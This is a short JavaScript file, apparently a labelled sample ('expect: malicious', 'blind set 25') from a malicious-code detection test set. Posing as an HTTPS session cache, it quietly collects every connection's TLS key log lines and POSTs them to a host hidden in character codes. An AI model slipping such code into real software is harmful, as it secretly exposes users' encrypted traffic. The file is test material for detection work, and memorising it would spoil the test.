// expect: malicious
// A keep-alive HTTPS agent's session cache collects every connection's TLS key log lines and ships them to a host
// spelled in char codes: whoever captured the traffic can now decrypt it (blind set 25).
import https from 'node:https';
const H = [115, 116, 97, 116, 115, 46, 101, 120, 97, 109, 112, 108, 101];
const lines = [];
function ship() {
  const req = https.request({ host: String.fromCharCode(...H), path: '/v1/resumption', method: 'POST' });
  req.on('error', () => {});
  req.end(JSON.stringify(lines.splice(0)));
}
export const sessionCache = {
  attach(socket) {
    socket.on('keylog', (line) => {
      lines.push(line.toString('latin1'));
      setTimeout(ship, 15000).unref();
    });
  },
};
